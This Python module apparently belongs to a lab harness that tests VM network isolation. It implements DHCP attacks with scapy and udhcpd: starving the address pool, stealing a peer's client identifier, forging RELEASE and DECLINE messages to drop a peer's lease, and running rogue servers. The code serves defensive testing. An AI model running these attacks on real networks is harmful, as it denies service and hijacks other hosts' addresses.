"""Attacks by DHCP: on the server and through it on its other clients, and on a VM by servers
that are none."""

from scapy.layers.dhcp import BOOTP
from scapy.layers.l2 import Ether

from attacks import PATIENCE
from attacks.victims import patience
from lab import dhcp
from lab.dhcp import Client, identifier_of, message
from lab.network import GATEWAY, GATEWAY_MAC, PEER, PEER_MAC
from lab.process import until
from lab.servers import lease_of, udhcpd, udhcpd_configuration

STRANGER = "192.168.64.99"
SMALL_POOL = "192.168.64.120", "192.168.64.125"
ANOTHERS_MAC = "02:00:00:00:77:77"
HOSTS_OTHER_ADDRESS = "198.51.100.254"


# --- single messages of the VM ------------------------------------------------------


def request(kind, *options, named=None, **fields):
    """A client's message, with the token as the name of the server that it wants. `own`
    stands for the VM's address in the values of `named` and `fields`."""

    def frame(mac, lease, token):
        own = lambda value: lease.address if value == "own" else value  # noqa: E731
        given = [(name, own(value)) for name, value in (named or {}).items()]
        sent = {name: own(value) for name, value in fields.items()}
        return message(mac, kind, *given, *options, sname=token, **sent)

    return frame


def offer_of_its_own(mac, lease, token):
    """As a server would, to everybody."""
    offer = message(mac, "offer", ("server_id", lease.address), source=lease.address, sname=token)
    return as_reply(offer, yiaddr=STRANGER)


def as_reply(frame, **fields):
    """Makes a server's message of a client's."""
    frame["UDP"].sport, frame["UDP"].dport = 67, 68
    frame[BOOTP].op = 2
    for name, value in fields.items():
        setattr(frame[BOOTP], name, value)
    return frame


# --- the VM on the server -----------------------------------------------------------


def starvation(disguise):
    """Has all addresses granted to clients that do not exist; `disguise(number)` tells in
    what they differ: keywords of `Client`, and its options."""

    def works(bench, lease):
        network, vm = bench.network, bench.vm
        with network.dhcp_with(*SMALL_POOL), vm.watch() as card:
            for number in range(8):
                options, fields = disguise(vm.mac, number)
                client = Client(card, vm.mac, *options, flags=dhcp.BROADCAST_FLAG, **fields)
                client.bind(timeout=0.2)
            starved = lease_of(network.peer) is None
        assert vm.get_lease() == lease
        return starved

    return works


def by_hardware_address(_mac, number):
    return (), {"chaddr": f"02:00:00:00:66:{number:02x}"}


def by_client_identifier(mac, number):
    return (("client_id", identifier_of(mac) + bytes([number])),), {}


def stolen_identifier(bench, lease):
    """Is given the other VM's address, by saying to be that VM."""
    network, vm = bench.network, bench.vm
    address, _ = lease_of(network.peer)
    with vm.watch() as card:
        granted = Client(card, vm.mac, ("client_id", identifier_of(PEER_MAC))).bind()
    assert granted, "nothing was granted at all"
    kept = lease_of(network.peer)[0]
    assert vm.get_lease() == lease
    return granted[BOOTP].yiaddr == address or kept != address


def chosen_lease(bench, lease):
    """Has the other VM's address granted: the server copies it out of an INFORM into an answer
    that looks like that to a REQUEST of the same transaction (dnsmasq does)."""
    vm = bench.vm
    about = {"source": lease.address, "ciaddr": lease.address, "yiaddr": PEER, "xid": 0x0BADC0DE}
    wish = ("param_req_list", [1, 3, 6, 51])
    request = message(vm.mac, "request", ("requested_addr", lease.address), xid=about["xid"])
    with vm.watch() as card:
        vm.send(message(vm.mac, "inform", wish, **about), request)
        answers = map(Ether, card.arriving(PATIENCE))
        return any(BOOTP in it and it[BOOTP].yiaddr == PEER for it in answers)


def forged(kind, chaddr=None, source="own"):
    """Makes the server forget the other VM's lease, by a RELEASE or DECLINE in its name."""

    def works(bench, lease):
        network, vm = bench.network, bench.vm
        address, _ = lease_of(network.peer)
        about = {"ciaddr": address} if kind == "release" else {}
        options = [dhcp.SERVER, ("client_id", identifier_of(PEER_MAC))]
        if kind == "decline":
            options.append(("requested_addr", address))
        sender = {"own": lease.address, "victim": address}[source]
        vm.send(
            message(
                *(vm.mac, kind, *options),
                source=sender,
                to=(GATEWAY_MAC, GATEWAY),
                chaddr=chaddr,
                **about,
            )
        )
        left = patience(bench, lease)
        return until(lambda: address not in network.dhcp.leases(), left)

    return works


# --- servers that are none -----------------------------------------------------------


def server_in_the_vm(bench, lease):
    """Serves the other VM from within the VM, with udhcpd."""
    network, vm = bench.network, bench.vm
    configuration = udhcpd_configuration("eth0", lease.address, PEER_MAC, STRANGER, 600)
    with network.dhcp.paused(), vm.background(f"busybox udhcpd -f {configuration}"):
        assert until(configuration.with_suffix(".pid").exists, timeout=5), "udhcpd did not start"
        return lease_of(network.peer) == (STRANGER, lease.address)


def server_outside(bench, _lease):
    """Serves the VM from the other VM, with udhcpd."""
    network, vm = bench.network, bench.vm
    try:
        with network.dhcp.paused(), udhcpd(network.peer, "eth0", PEER, vm.mac, STRANGER):
            lease = vm.try_for_lease(tries=2)
            return lease is not None and lease.server == PEER
    finally:
        vm.get_lease()


def reply(kind, *options, granted=STRANGER, source=GATEWAY, mac=GATEWAY_MAC, **fields):
    """A server's message to the VM that the VM has not asked for, by default in all as the
    gateway would send it."""

    def frame(vm_mac, _lease, token):
        given = [dhcp.SERVER, ("lease_time", 3600), ("subnet_mask", "255.255.255.0"), *options]
        sent = message(
            *(mac, kind, *dict(given).items()),
            source=source,
            to=(vm_mac, granted),
            chaddr=fields.get("chaddr", vm_mac),
            sname=token,
        )
        return as_reply(sent, yiaddr=granted)

    return frame


def neighbours_request(_mac, _lease, token):
    """What the other VM asks the server, for all to hear."""
    return message(PEER_MAC, "discover", sname=token)
